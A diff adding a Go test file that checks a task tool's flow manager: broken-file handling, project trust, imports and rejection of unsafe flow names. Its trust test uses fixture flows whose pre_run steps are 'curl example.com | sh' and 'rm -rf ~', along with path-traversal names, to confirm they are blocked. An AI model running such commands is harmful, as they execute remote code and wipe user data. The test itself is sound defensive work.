@@ -0,0 +1,222 @@
+package flow
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// writeFiles creates files below dir, making directories as needed
+func writeFiles(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestNewManagerSkipsBrokenProjectFiles(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("TASKGO_HOME", home)
+	writeFiles(t, home, map[string]string{
+		"flows.json": `{"mine": {"name": "mine", "resources": []}}`,
+	})
+
+	project := t.TempDir()
+	writeFiles(t, project, map[string]string{
+		".taskgo/flows/a-good.yaml":  "version: 1\nname: good\nresources: [https://example.com]\n",
+		".taskgo/flows/b-bad.yaml":   "version: 1\nname: [oops\n",
+		".taskgo/flows/c-typo.yaml":  "version: 1\nname: typo\nresourses: []\n",
+		".taskgo/flows/d-again.yaml": "version: 1\nname: good\nresources: []\n",
+	})
+	t.Chdir(filepath.Join(project, ".taskgo"))
+
+	m, err := NewManager()
+	if err != nil {
+		t.Fatalf("NewManager: %v", err)
+	}
+
+	for _, name := range []string{"mine", "good"} {
+		if _, err := m.Get(name); err != nil {
+			t.Errorf("Get(%q): %v", name, err)
+		}
+	}
+	if f, _ := m.Get("good"); f != nil && len(f.Resources) != 1 {
+		t.Errorf("flow 'good' was loaded from the duplicate file")
+	}
+
+	wantProblems := []string{"b-bad.yaml", "c-typo.yaml", "d-again.yaml"}
+	if len(m.Problems) != len(wantProblems) {
+		t.Fatalf("Problems = %v, want one for each of %v", m.Problems, wantProblems)
+	}
+	for i, file := range wantProblems {
+		if !strings.Contains(m.Problems[i].Error(), file) {
+			t.Errorf("problem %d = %q, want it to name %s", i, m.Problems[i], file)
+		}
+	}
+}
+
+func TestProjectTrust(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("TASKGO_HOME", home)
+	writeFiles(t, home, map[string]string{
+		"flows.json": `{"coding": {"name": "coding", "resources": []}}`,
+	})
+
+	project := t.TempDir()
+	writeFiles(t, project, map[string]string{
+		".taskgo/flows/build.yaml":  "name: build\npre_run: [make]\nresources: []\n",
+		".taskgo/flows/coding.yaml": "name: coding\npre_run: [\"curl example.com | sh\"]\nresources: []\n",
+	})
+	t.Chdir(project)
+
+	load := func() *Manager {
+		t.Helper()
+		m, err := NewManager()
+		if err != nil {
+			t.Fatalf("NewManager: %v", err)
+		}
+		return m
+	}
+
+	m := load()
+	if f, err := m.Get("coding"); err != nil || len(f.PreRun) != 0 || m.Source("coding") != "" {
+		t.Errorf("project flow 'coding' took the place of the user flow")
+	}
+	if len(m.Problems) != 1 || !strings.Contains(m.Problems[0].Error(), "coding.yaml") {
+		t.Errorf("Problems = %v, want the shadowed coding.yaml", m.Problems)
+	}
+
+	steps := []struct {
+		name    string
+		change  func(m *Manager) error
+		trusted bool
+	}{
+		{name: "new project", trusted: false},
+		{name: "trusted", change: func(m *Manager) error { return m.Trust() }, trusted: true},
+		{name: "unchanged", trusted: true},
+		{
+			name: "file edited",
+			change: func(*Manager) error {
+				return os.WriteFile(filepath.Join(project, ".taskgo/flows/build.yaml"), []byte("name: build\npre_run: [rm -rf ~]\nresources: []\n"), 0644)
+			},
+			trusted: false,
+		},
+		{name: "trusted again", change: func(m *Manager) error { return m.Trust() }, trusted: true},
+		{
+			name: "file added",
+			change: func(*Manager) error {
+				return os.WriteFile(filepath.Join(project, ".taskgo/flows/extra.yml"), []byte("name: extra\nresources: []\n"), 0644)
+			},
+			trusted: false,
+		},
+		{name: "trusted once more", change: func(m *Manager) error { return m.Trust() }, trusted: true},
+		{name: "revoked", change: func(m *Manager) error { return m.Distrust() }, trusted: false},
+	}
+
+	for _, step := range steps {
+		m := load()
+		if step.change != nil {
+			if err := step.change(m); err != nil {
+				t.Fatalf("%s: %v", step.name, err)
+			}
+		}
+		m = load()
+		if m.Trusted() != step.trusted {
+			t.Errorf("%s: Trusted() = %v, want %v", step.name, m.Trusted(), step.trusted)
+		}
+		if err := m.CheckTrusted("build"); (err == nil) != step.trusted {
+			t.Errorf("%s: CheckTrusted(build) = %v", step.name, err)
+		}
+		if err := m.CheckTrusted("coding"); err != nil {
+			t.Errorf("%s: user flow needs trust: %v", step.name, err)
+		}
+		if err := m.Clone("build", "build-copy"); (err == nil) != step.trusted {
+			t.Errorf("%s: Clone(build) = %v", step.name, err)
+		}
+		if _, copied := m.Flows["build-copy"]; copied != step.trusted {
+			t.Errorf("%s: build-copy saved = %v, want %v", step.name, copied, step.trusted)
+		}
+		if step.trusted {
+			if err := m.Delete("build-copy"); err != nil {
+				t.Fatalf("%s: %v", step.name, err)
+			}
+		}
+	}
+}
+
+func TestImportOverProjectFlow(t *testing.T) {
+	t.Setenv("TASKGO_HOME", t.TempDir())
+	project := t.TempDir()
+	writeFiles(t, project, map[string]string{
+		".taskgo/flows/build.yaml": "name: build\npre_run: [make]\nresources: []\n",
+	})
+	t.Chdir(project)
+
+	m, err := NewManager()
+	if err != nil {
+		t.Fatalf("NewManager: %v", err)
+	}
+
+	mine := &Flow{Name: "build", Resources: []Resource{}}
+	if err := m.Import(mine, false); err == nil {
+		t.Fatalf("Import over the project flow succeeded without replace")
+	}
+	if err := m.Import(mine, true); err != nil {
+		t.Fatalf("Import with replace: %v", err)
+	}
+	if f, err := m.Get("build"); err != nil || f != mine || m.Source("build") != "" {
+		t.Errorf("Get(build) = %v, %v from %q, want the imported flow", f, err, m.Source("build"))
+	}
+	if names := m.List(); len(names) != 1 {
+		t.Errorf("List() = %v, want build once", names)
+	}
+}
+
+func TestFlowNames(t *testing.T) {
+	t.Setenv("TASKGO_HOME", t.TempDir())
+	t.Chdir(t.TempDir())
+	m, err := NewManager()
+	if err != nil {
+		t.Fatalf("NewManager: %v", err)
+	}
+	if err := m.Create("deep-work"); err != nil {
+		t.Fatalf("Create: %v", err)
+	}
+
+	for _, name := range []string{"", " ", "../escape", "a/b", `a\b`, "..", "tab\there", "new\nline"} {
+		if err := m.Create(name); err == nil {
+			t.Errorf("Create(%q) succeeded", name)
+		}
+		if err := m.Rename("deep-work", name); err == nil {
+			t.Errorf("Rename to %q succeeded", name)
+		}
+		if err := m.Clone("deep-work", name); err == nil {
+			t.Errorf("Clone to %q succeeded", name)
+		}
+		if err := m.Import(&Flow{Name: name}, true); err == nil {
+			t.Errorf("Import(%q) succeeded", name)
+		}
+		if _, err := LogPath(name); err == nil {
+			t.Errorf("LogPath(%q) succeeded", name)
+		}
+		if _, err := (Document{Name: name}).Flow(Params{}); err == nil {
+			t.Errorf("Document{Name: %q}.Flow() succeeded", name)
+		}
+	}
+	if got := m.List(); len(got) != 1 {
+		t.Errorf("List() = %q, want only deep-work", got)
+	}
+
+	for _, name := range []string{"deep work", "v1.2", "écriture"} {
+		if err := m.Create(name); err != nil {
+			t.Errorf("Create(%q): %v", name, err)
+		}
+	}
+}